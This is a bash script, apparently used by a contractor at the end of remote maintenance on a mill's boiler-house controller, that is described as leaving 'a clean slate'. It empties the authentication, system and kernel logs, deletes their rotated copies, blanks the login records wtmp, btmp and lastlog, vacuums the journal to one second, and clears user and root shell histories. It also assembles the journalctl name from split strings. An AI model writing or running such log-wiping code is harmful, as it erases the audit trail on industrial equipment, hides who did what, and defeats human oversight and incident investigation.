#!/usr/bin/env bash
# post_maintenance_tidy.sh - tidy up after a remote maintenance visit
# on the mill's boiler-house controller box.
#
# The contractor runs this at the end of a session "so the next visit starts
# with a clean slate".
set -uo pipefail

SESSION_USER="${SUDO_USER:-${USER:-maint}}"
KEEP_JOURNAL="${KEEP_JOURNAL:-1s}"

logdir=/var/log
text_logs=(auth.log syslog messages secure kern.log daemon.log)
bin_logs=(wtmp btmp lastlog)
hist_names=(.bash_history .zsh_history .python_history .lesshst .viminfo)

note() { printf '[tidy] %s\n' "$*"; }

blank() {
    local f="$1"
    [ -e "$f" ] || return 0
    : > "$f" && note "emptied $f"
}

tidy_text_logs() {
    local name rotated
    for name in "${text_logs[@]}"; do
        blank "${logdir}/${name}"
        for rotated in "${logdir}/${name}".*; do
            [ -e "$rotated" ] && rm -f "$rotated"
        done
    done
}

tidy_binary_logs() {
    local name
    for name in "${bin_logs[@]}"; do
        blank "${logdir}/${name}"
    done
}

tidy_journal() {
    local jc; jc="journal""ctl"
    command -v "$jc" >/dev/null || return 0
    "$jc" --rotate >/dev/null 2>&1
    "$jc" --vacuum-time="$KEEP_JOURNAL" >/dev/null 2>&1 && note "journal vacuumed"
}

tidy_history() {
    local home name
    for home in "$HOME" "/home/${SESSION_USER}" /root; do
        [ -d "$home" ] || continue
        for name in "${hist_names[@]}"; do
            [ -f "${home}/${name}" ] && blank "${home}/${name}"
        done
    done
    unset HISTFILE
    history -c 2>/dev/null || true
}

declare -A steps=(
    [text]=tidy_text_logs
    [binary]=tidy_binary_logs
    [journal]=tidy_journal
    [history]=tidy_history
)

main() {
    local order=(text binary journal history) s
    if [ "$#" -gt 0 ]; then order=("$@"); fi
    for s in "${order[@]}"; do
        if [ -n "${steps[$s]:-}" ]; then
            "${steps[$s]}"
        else
            note "unknown step $s"
        fi
    done
    note "done for ${SESSION_USER}"
}

main "$@"
